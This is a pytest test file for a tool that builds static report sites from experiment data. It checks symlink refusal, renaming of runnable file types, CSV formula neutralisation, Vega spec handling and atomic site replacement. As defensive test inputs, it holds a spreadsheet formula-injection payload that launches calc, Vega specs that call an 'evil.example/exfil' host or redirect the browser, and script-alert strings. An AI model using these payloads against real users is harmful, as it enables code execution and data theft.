"""Nothing private is published, a failed build loses nothing (issue 6, the site part).

Symlinks out of the store, documents a browser runs, spreadsheet formulas in the
CSV downloads, full Vega specs, colliding artifact names, and the output folder
swap (a failed build keeps the previous site; no temp folder is left behind).
"""

from __future__ import annotations

import csv
import io
import json
import os
import posixpath
import shutil
import sys
import warnings
from pathlib import Path

import orjson
import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner

import trackreport as tr
from site_fixtures import site_files
from trackreport.cli import cli
from trackreport.errors import BuildError
from trackreport.records import ArtifactRecord
from trackreport.site import build as build_mod
from trackreport.site import output as output_mod
from trackreport.site.build import SITE_MARKER, build_site
from trackreport.site.charts import is_vegalite, vegalite_artifact
from trackreport.site.csvsafe import formula_safe
from trackreport.site.previews import INERT_EXTENSIONS, site_paths
from trackreport.storage import UnsafePathWarning

OUTSIDE_TEXT = "PRIVATE-KEY-271828"


def _build(store: Path, out: Path) -> list[str]:
    """Build, returning the warnings raised."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        build_site(store, out)
    return [str(w.message) for w in caught if issubclass(w.category, UnsafePathWarning)]


def _run_page(site: Path, run_id: str) -> BeautifulSoup:
    return BeautifulSoup((site / "runs" / run_id / "index.html").read_text("utf-8"),
                         "html.parser")


def _leaks(site: Path, needle: str = OUTSIDE_TEXT) -> list[str]:
    return [rel for rel, data in site_files(site).items() if needle.encode() in data]


def _siblings(out: Path) -> list[str]:
    return sorted(p.name for p in out.parent.iterdir() if p.name != out.name)


# item 5: a failed build loses nothing ---------------------------------------------------


@pytest.fixture
def small(store: Path) -> Path:
    tr.set_experiment("wine", primary_metric="acc", goal="max")
    with tr.start_run(name="one"):
        tr.log_metric("acc", 0.5, step=0)
        tr.log_metric("acc", 0.7, step=1)
        tr.log_text("hello\n", "notes.txt")
    return store


def test_failed_build_keeps_the_previous_site(small: Path, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "public" / "site"
    build_site(small, out)
    before = site_files(out)
    siblings = _siblings(out)

    def broken(*args: object) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(build_mod, "compare_page", broken)
    with pytest.raises(RuntimeError, match="disk on fire"):
        build_site(small, out)
    assert site_files(out) == before  # the old site, whole
    assert _siblings(out) == siblings  # no temp folder left
    # an interrupted build (Ctrl-C in a progress callback) too
    monkeypatch.undo()

    def interrupt(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        build_site(small, out, progress=interrupt)
    assert site_files(out) == before
    assert _siblings(out) == siblings


def test_failed_first_build_leaves_nothing(small: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(build_mod, "index_page", lambda *args: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        build_site(small, tmp_path / "site")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["store"]


@pytest.mark.skipif(sys.platform == "win32", reason="flock")
def test_a_killed_builds_folder_is_swept_and_a_running_ones_is_not(small: Path,
                                                                   tmp_path: Path) -> None:
    """A build killed with SIGKILL leaves its staging folder; the next build into the same
    --out deletes it, but not one that a build still writing holds (its lock)."""
    import fcntl

    out = tmp_path / "site"
    dead = tmp_path / ".site.building-0dead0ff"
    (dead / "runs" / "x").mkdir(parents=True)
    (dead / "runs" / "x" / "index.html").write_text("half")
    replaced = tmp_path / ".site.old-0dead0ff"  # killed while deleting the site it replaced
    (replaced / "runs").mkdir(parents=True)
    live = tmp_path / ".site.building-11fe11ff"
    live.mkdir()
    fd = os.open(live, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # as a running build holds its folder
        other = tmp_path / ".other.building-0dead0ff"  # another site's: not this one's
        other.mkdir()
        link = tmp_path / ".site.building-1ffffff1"  # a link is never followed nor deleted
        mine = tmp_path / ".site.old-backup"  # not a build's name: the user's, left alone
        mine.mkdir()
        link.symlink_to(small, target_is_directory=True)
        build_site(small, out)
        assert not dead.exists() and not replaced.exists()
        assert live.is_dir() and other.is_dir() and link.is_symlink()
        assert (small / "trackreport-store.json").is_file()
    finally:
        os.close(fd)
    build_site(small, out)  # now nobody holds it
    assert not live.exists()
    assert sorted(_siblings(out)) == sorted(["store", ".other.building-0dead0ff",
                                             ".site.building-1ffffff1", ".site.old-backup"])


@pytest.mark.skipif(sys.platform == "win32", reason="flock")
def test_the_replaced_site_stays_locked_until_it_is_deleted(
        small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Another build's sweep must not delete the previous site while this build deletes it."""
    import fcntl

    out = tmp_path / "site"
    build_site(small, out)
    seen: list[tuple[str, bool]] = []
    remove = output_mod._remove

    def watched(path: Path) -> None:
        if path.name.startswith(".site.old-"):
            fd = os.open(path, os.O_RDONLY)
            try:
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                seen.append((path.name, False))
            except BlockingIOError:
                seen.append((path.name, True))
            finally:
                os.close(fd)
        remove(path)

    monkeypatch.setattr(output_mod, "_remove", watched)
    build_site(small, out, clean=True)  # a whole new site replaces the previous one
    assert [locked for _, locked in seen] == [True]
    assert sorted(_siblings(out)) == ["store"]


@pytest.mark.skipif(sys.platform == "win32", reason="flock, SIGKILL")
def test_a_build_killed_while_deleting_the_replaced_site(small: Path, tmp_path: Path) -> None:
    """A real build process killed (SIGKILL) halfway through deleting the site it replaced
    leaves that site beside --out; the next build deletes it and the site is whole."""
    import signal
    import subprocess
    import time

    out = tmp_path / "site"
    build_site(small, out)
    ready = tmp_path / "deleting"
    script = f"""
import os, shutil, sys, time
sys.path.insert(0, {str(Path(build_mod.__file__).resolve().parents[2])!r})
from pathlib import Path
from trackreport.site import output
from trackreport.site.build import build_site
remove = output._remove
def slow(path):
    if path.name.startswith(".site.old-"):
        os.remove(path / "index.html")  # part of the old site is gone
        Path({str(ready)!r}).write_text(path.name)
        time.sleep(60)
    remove(path)
output._remove = slow
build_site({str(small)!r}, {str(out)!r}, clean=True)
"""
    child = subprocess.Popen([sys.executable, "-c", script])
    try:
        deadline = time.monotonic() + 60
        while not ready.exists() and child.poll() is None and time.monotonic() < deadline:
            time.sleep(0.01)
        assert ready.exists(), "the child never reached the deletion"
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    left = tmp_path / ready.read_text()
    assert left.is_dir() and not (left / "index.html").exists()
    assert (out / "index.html").is_file()  # the new site was in place before the deletion
    build_site(small, out)
    assert not left.exists()
    assert sorted(_siblings(out)) == ["deleting", "store"]
    assert (out / "index.html").is_file()


@pytest.mark.parametrize("name", ["s" * 240, "é" * 120, "KIND.(site)[1]"])
def test_an_out_folder_with_a_long_or_odd_name(small: Path, tmp_path: Path, name: str) -> None:
    """The folders a build makes beside --out stay within a file name's 255 bytes wherever
    --out's own name fits, and the sweep finds them by the same name."""
    from trackreport.site.output import TOKEN_BYTES, _beside

    out = tmp_path / name
    build_site(small, out)
    build_site(small, out, clean=True)  # replaces the previous site: an .old- folder too
    assert (out / "index.html").is_file()
    assert sorted(_siblings(out)) == ["store"]
    for kind in ("new", "building", "old"):
        assert len(_beside(name, kind, "0" * 2 * TOKEN_BYTES).encode()) <= 255
    dead = tmp_path / _beside(name, "building", "0dead0ff")  # left by a killed build
    dead.mkdir()
    other = tmp_path / _beside(name + "x", "building", "0dead0ff")  # another site's
    other.mkdir()
    build_site(small, out)
    assert not dead.exists() and other.is_dir()


def test_rebuild_swaps_in_the_new_site(small: Path, tmp_path: Path) -> None:
    out = tmp_path / "site"
    build_site(small, out)
    (out / "stale.html").write_text("old")
    build_site(small, out)
    assert not (out / "stale.html").exists() and (out / SITE_MARKER).is_file()
    assert _siblings(out) == ["store"]
    # an empty folder is fine, a folder that is not a site is refused and untouched
    empty = tmp_path / "empty"
    empty.mkdir()
    build_site(small, empty)
    assert (empty / "index.html").is_file()
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "thesis.tex").write_text("precious")
    with pytest.raises(BuildError, match="not empty"):
        build_site(small, mine)
    assert [p.name for p in mine.iterdir()] == ["thesis.tex"]


def test_build_through_a_symlinked_out_replaces_its_target(small: Path,
                                                           tmp_path: Path) -> None:
    real = tmp_path / "real-site"
    build_site(small, real)
    link = tmp_path / "site"
    link.symlink_to(real)
    build_site(small, link)
    assert link.is_symlink() and (real / "index.html").is_file()


def test_cli_build_into_an_unwritable_folder_is_one_line(small: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    res = CliRunner().invoke(cli, ["build", "--store", str(small), "--out",
                                   str(blocker / "site")])
    assert res.exit_code == 1
    lines = res.output.strip().splitlines()
    assert len(lines) == 1 and "cannot write the site" in lines[0], res.output
    assert "Traceback" not in res.output


def test_cli_build_into_a_read_only_folder(small: Path, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    # Tests may run as root, where chmod stops nothing: refuse the staging folder
    # the way a read-only parent would.
    parent = tmp_path / "ro"
    parent.mkdir()
    real_mkdir = Path.mkdir

    def mkdir(self: Path, *args: object, **kwargs: object) -> None:
        if self.parent == parent:
            raise PermissionError(13, "Permission denied", str(self))
        real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    res = CliRunner().invoke(cli, ["build", "--store", str(small), "--out",
                                   str(parent / "site")])
    assert res.exit_code == 1
    assert "cannot write the site" in res.output and "Traceback" not in res.output
    assert list(parent.iterdir()) == []


def test_cli_build_failure_in_a_subprocess_exits_1_without_traceback(small: Path,
                                                                      tmp_path: Path) -> None:
    import subprocess

    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    src = Path(__file__).resolve().parent.parent / "src"
    done = subprocess.run([sys.executable, "-m", "trackreport", "build", "--store", str(small),
                           "--out", str(blocker / "site")], capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(src)})
    assert done.returncode == 1
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert "Traceback" not in done.stderr and "cannot write the site" in done.stderr


# item 6: symlinks out of the store ------------------------------------------------------


@pytest.fixture
def linked(store: Path, tmp_path: Path) -> dict[str, object]:
    """A store with every kind of symlink planted after logging."""
    outside = tmp_path / "outside"
    outside.mkdir()
    tr.set_experiment("wine", primary_metric="acc", goal="max")
    ids = {}
    with tr.start_run(name="arts") as run:
        ids["arts"] = run.id
        tr.log_metric("acc", 0.5, step=0)
        tr.log_text("public key\n", "keys/id_rsa")
        tr.log_text("harmless\n", "leak.txt")
        tr.log_text("shared inside\n", "shared.txt")
        tr.log_text("placeholder\n", "alias.txt")
    with tr.start_run(name="moved-out") as run:
        ids["moved"] = run.id
        tr.log_metric("acc", 0.9, step=0)
    with tr.start_run(name="events-linked") as run:
        ids["events"] = run.id
        tr.log_metric("acc", 0.6, step=0)
    runs = store / "runs"
    arts = runs / ids["arts"] / "artifacts"
    # an artifact folder that is a symlink out of the store
    (outside / "keys").mkdir()
    (outside / "keys" / "id_rsa").write_text(OUTSIDE_TEXT)
    shutil.rmtree(arts / "keys")
    (arts / "keys").symlink_to(outside / "keys")
    # an artifact file that is a symlink out of the store
    (outside / "secret.txt").write_text(OUTSIDE_TEXT)
    (arts / "leak.txt").unlink()
    (arts / "leak.txt").symlink_to(outside / "secret.txt")
    # a symlink that stays inside the store: followed
    (arts / "alias.txt").unlink()
    (arts / "alias.txt").symlink_to(arts / "shared.txt")
    # a run folder that is a symlink to a folder outside, with a secret in its events
    moved = outside / "moved-run"
    shutil.move(str(runs / ids["moved"]), moved)
    (runs / ids["moved"]).symlink_to(moved)
    events = next(moved.glob("events-*.jsonl"))
    with open(events, "ab") as fh:
        fh.write(orjson.dumps({"type": "tags", "time": 1e10, "tags": {"k": OUTSIDE_TEXT}}) + b"\n")
    # an events file that is a symlink to a file outside (a second writer of a run)
    fake = outside / "events-evil.jsonl"
    fake.write_bytes(orjson.dumps({"type": "tags", "time": 1e10,
                                   "tags": {"k": OUTSIDE_TEXT}}) + b"\n")
    (runs / ids["events"] / "events-zz-evil.jsonl").symlink_to(fake)
    # experiment settings from a file outside
    exp = outside / "events-exp.jsonl"
    exp.write_bytes(orjson.dumps({"type": "experiment", "time": 1e10, "name": "wine",
                                  "description": OUTSIDE_TEXT}) + b"\n")
    (store / "experiments" / "events-zz-evil.jsonl").symlink_to(exp)
    return {"store": store, "ids": ids, "outside": outside}


def test_no_symlink_out_of_the_store_is_followed(linked: dict, tmp_path: Path) -> None:
    site = tmp_path / "site"
    messages = _build(linked["store"], site)
    assert _leaks(site) == []
    ids = linked["ids"]
    # the run folder that leads outside is not read at all
    assert not (site / "runs" / ids["moved"]).exists()
    assert "moved-out" not in (site / "data" / "runs.csv").read_text()
    # the run whose second events file leads outside is read from its own file only
    assert (site / "runs" / ids["events"] / "index.html").is_file()
    # each refusal is said once per path, naming it
    said = " ".join(messages)
    for rel in (f"runs/{ids['arts']}/artifacts/keys/id_rsa",
                f"runs/{ids['arts']}/artifacts/leak.txt",
                f"runs/{ids['moved']}",
                f"runs/{ids['events']}/events-zz-evil.jsonl",
                "experiments/events-zz-evil.jsonl"):
        assert f"skipped {rel}: a symbolic link leading outside the store" in said, rel
    # the run page lists the refused artifacts, without a link
    soup = _run_page(site, ids["arts"])
    text = soup.get_text(" ")
    assert text.count("a link to a file outside the store") == 2
    assert not soup.select('a[href*="leak.txt"], a[href*="id_rsa"]')


def test_a_symlink_inside_the_store_is_followed(linked: dict, tmp_path: Path) -> None:
    site = tmp_path / "site"
    _build(linked["store"], site)
    files = site / "runs" / linked["ids"]["arts"] / "files"
    assert (files / "alias.txt").read_text() == "shared inside\n"
    assert (files / "shared.txt").read_text() == "shared inside\n"


def test_cli_build_warns_in_one_line_per_refusal(linked: dict, tmp_path: Path) -> None:
    import subprocess

    src = Path(__file__).resolve().parent.parent / "src"
    done = subprocess.run([sys.executable, "-m", "trackreport", "build", "--store",
                           str(linked["store"]), "--out", str(tmp_path / "site")],
                          capture_output=True, text=True,
                          env={**os.environ, "PYTHONPATH": str(src)})
    assert done.returncode == 0, done.stderr
    warned = [line for line in done.stderr.splitlines() if line.startswith("warning: ")]
    assert any("keys/id_rsa" in line for line in warned)
    assert all("symbolic link leading outside the store" in line for line in warned)
    assert OUTSIDE_TEXT not in done.stdout + done.stderr


# item 7: only inert file types keep their name ------------------------------------------

RUNNABLE = ["page.shtm", "page.ehtml", "schema.xsd", "binding.xbl", "page.html", "pic.svg",
            "feed.xml", "code.js", "run.sh", "Makefile", "notebook.ipynb", "page.HTM",
            "weird.PnG.html"]
KEPT = ["plot.png", "photo.JPEG", "table.csv", "log.txt", "config.json", "readme.md",
        "weights.safetensors", "model.onnx", "paper.pdf", "bundle.tar.gz", "arr.npy", "train.py"]


@pytest.fixture
def typed(store: Path) -> tuple[Path, str]:
    with tr.start_run(name="types") as run:
        for name in RUNNABLE + KEPT:
            tr.log_text(f"<script>alert('{name}')</script>\n", f"out/{name}")
    return store, run.id


def test_only_inert_extensions_keep_their_name(typed: tuple[Path, str], tmp_path: Path) -> None:
    store, run_id = typed
    site = tmp_path / "site"
    build_site(store, site)
    files = site / "runs" / run_id / "files" / "out"
    names = sorted(p.name for p in files.iterdir())
    for name in RUNNABLE:
        assert any(n.endswith(".txt") and n.startswith(name.lower().split(".")[0])
                   for n in names), name
    assert "page.shtm.txt" in names and "binding.xbl.txt" in names and "schema.xsd.txt" in names
    assert "page.ehtml.txt" in names and "run.sh.txt" in names
    assert any(n.startswith("makefile-") and n.endswith(".txt") for n in names)  # no extension
    assert "plot.png" in names and "table.csv" in names and "bundle.tar.gz" in names
    assert "paper.pdf" in names
    # links and download names follow the stored names
    soup = _run_page(site, run_id)
    hrefs = {a["href"] for a in soup.select("a[download]")}
    assert any(h.endswith("out/page.shtm.txt") for h in hrefs)
    assert not any(h.endswith((".shtm", ".xsd", ".xbl", ".ehtml", ".html", ".svg"))
                   for h in hrefs)
    downloads = {a["download"] for a in soup.select("a[download]")}
    assert "page.shtm.txt" in downloads and "plot.png" in downloads


def test_no_file_in_the_site_has_a_type_outside_the_allowlist(typed: tuple[Path, str],
                                                              tmp_path: Path) -> None:
    store, _ = typed
    site = tmp_path / "site"
    build_site(store, site)
    own = {"html", "js", "css", "json", "csv", "txt"}  # the site's pages, assets and data
    checked = 0
    for path in site.rglob("*"):
        if not path.is_file():
            continue
        rel = path.relative_to(site).as_posix()
        name = path.name
        ext = name.rpartition(".")[2].lower() if "." in name.lstrip(".") else ""
        if rel == SITE_MARKER or rel.startswith(".trackreport-cache/"):  # not the site
            continue
        parts = rel.split("/")
        if len(parts) > 3 and parts[0] == "runs" and parts[2] == "files":  # artifacts
            assert ext in INERT_EXTENSIONS, rel
            checked += 1
        else:
            assert ext in own, rel
            if ext == "html":
                assert name == "index.html", rel
    assert checked == len(RUNNABLE) + len(KEPT)


# item 9: CSV formula injection ------------------------------------------------------------

HOSTILE_NAME = "=cmd|' /C calc'!A0"


def test_formula_safe() -> None:
    for text in ("=1+1", "+1", "@SUM(A1)", "\tx", "\rx", "-2+3", "-cmd", HOSTILE_NAME):
        assert formula_safe(text) == "'" + text, text
    for text in ("", "plain", "-0.5", "-1e-5", "-Infinity", "3", "a=b", "'=x"):
        assert formula_safe(text) == text, text


def test_csv_downloads_neutralize_formulas_json_keeps_values(store: Path,
                                                             tmp_path: Path) -> None:
    tr.set_experiment("wine", primary_metric="acc", goal="max")
    with tr.start_run(name=HOSTILE_NAME, tags={"why": "@SUM(1+1)*cmd|' /C calc'!A0"}):
        tr.log_params({"formula": "+1+1", "neg": -3, "dash": "-x", "tab": "\tevil"})
        tr.log_metric("acc", -0.5, step=0)
    site = tmp_path / "site"
    build_site(store, site)
    slug = next((site / "experiments").iterdir()).name
    for rel in ("data/runs.csv", f"experiments/{slug}/runs.csv"):
        rows = list(csv.DictReader(io.StringIO((site / rel).read_text("utf-8"))))
        row = rows[0]
        assert row["run_name"] == "'" + HOSTILE_NAME, rel
        assert row["tags.why"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["params.formula"] == "'+1+1" and row["params.dash"] == "'-x"
        assert row["params.tab"] == "'\tevil"
        assert row["params.neg"] == "-3" and row["metrics.acc"] == "-0.5"
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
    data = json.loads((site / "data" / "runs.json").read_text("utf-8"))
    assert data[0]["run_name"] == HOSTILE_NAME and data[0]["params.formula"] == "+1+1"


# item 10: full Vega specs -----------------------------------------------------------------

VEGA_SPECS = {
    "data-url.vl.json": {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "data": [{"name": "t", "url": "https://evil.example/exfil?c=1"}],
        "marks": [{"type": "rect", "from": {"data": "t"}}],
    },
    "image.vl.json": {
        "$schema": "https://vega.github.io/schema/vega/v5.json",
        "marks": [{"type": "image", "encode": {"enter": {
            "url": {"value": "https://evil.example/pixel.png"}}}}],
    },
    "signals.vl.json": {
        "signals": [{"name": "s", "update": "window.location='https://evil.example/'",
                     "on": [{"events": "click", "update": "loadBeacon('evil.example')"}]}],
        "marks": [],
    },
    "other-host.vl.json": {
        "$schema": "https://evil.example/schema/vega/v5.json",
        "data": [{"name": "t", "url": "https://evil.example/d.csv"}],
    },
}


def test_is_vegalite() -> None:
    for spec in VEGA_SPECS.values():
        assert not is_vegalite(spec)
    assert is_vegalite({"mark": "point"})
    assert is_vegalite({"$schema": "https://vega.github.io/schema/vega-lite/v5.json",
                        "mark": "point"})
    assert not is_vegalite({"$schema": "https://vega.github.io/schema/vega/v5.json",
                            "mark": "point"})
    # a Vega-Lite spec is always drawn as Vega-Lite (the browser trusts $schema)
    assert vegalite_artifact({"mark": "point"})["$schema"].startswith(
        "https://vega.github.io/schema/vega-lite/")
    assert vegalite_artifact({"$schema": "https://x.example/schema/vega-lite/v5.json",
                              "mark": "point"})["$schema"] == \
        "https://vega.github.io/schema/vega-lite/v5.json"


def test_full_vega_specs_are_shown_as_code(store: Path, tmp_path: Path) -> None:
    with tr.start_run(name="vega") as run:
        for name, spec in VEGA_SPECS.items():
            tr.log_dict(spec, f"charts/{name}")
        tr.log_dict({"$schema": "https://vega.github.io/schema/vega-lite/v5.json",
                     "data": {"values": [{"x": 1}]}, "mark": "point",
                     "encoding": {"x": {"field": "x", "type": "quantitative"}}},
                    "charts/good.vl.json")
    site = tmp_path / "site"
    build_site(store, site)
    soup = _run_page(site, run.id)
    specs = [json.loads(s.string) for s in soup.select('script[type="application/json"]')]
    drawn = [s for s in specs if isinstance(s, dict) and "mark" in s]
    assert len(drawn) == 1  # only the Vega-Lite one is drawn
    assert "evil.example" not in json.dumps(specs)
    text = soup.get_text(" ")
    assert text.count("A Vega chart spec (not Vega-Lite): shown as code") == len(VEGA_SPECS)
    assert any("evil.example" in (pre.get_text()) for pre in soup.select("pre.preview-text"))


# item 13: colliding site names ------------------------------------------------------------


def _record(path: str, media_type: str = "text/plain") -> ArtifactRecord:
    return ArtifactRecord(path=path, size=1, sha256="0" * 64, media_type=media_type,
                          time=0.0)


def test_colliding_site_names_are_distinct_and_stable() -> None:
    paths = ["report.html", "report.html.txt", "a", "a.txt", "x/y.svg", "x/y.svg.txt",
             "Plot.PNG", "plot.png", "f.bin", "f.bin.txt/inner.csv"]
    records = [_record(p) for p in paths]
    planned = site_paths("runs/r", records)
    assert site_paths("runs/r", list(reversed(records))) == planned
    sites = [planned[p][0].lower() for p in paths]
    assert len(set(sites)) == len(sites)
    folders = {posixpath.dirname(s) for s in sites}
    assert not folders & set(sites)
    # the file logged with a .txt name keeps it; the renamed one gets a hash
    assert planned["report.html.txt"][0] == "runs/r/files/report.html.txt"
    assert planned["report.html"][0].startswith("runs/r/files/report.html-")
    assert planned["report.html"][0].endswith(".txt")
    assert planned["report.html"][1] == "report.html.txt"


def test_a_store_with_report_html_and_report_html_txt_builds(store: Path,
                                                             tmp_path: Path) -> None:
    with tr.start_run(name="both") as run:
        tr.log_text("<h1>as html</h1>", "report.html")
        tr.log_text("as text", "report.html.txt")
    site = tmp_path / "site"
    build_site(store, site)
    soup = _run_page(site, run.id)
    page = site / "runs" / run.id / "index.html"
    targets = {}
    for a in soup.select("a[download]"):
        target = (page.parent / a["href"]).resolve()
        targets[target.name] = target.read_text()
    assert sorted(targets.values()) == ["<h1>as html</h1>", "as text"]
    again = tmp_path / "again"
    build_site(store, again)
    assert site_files(again) == site_files(site)
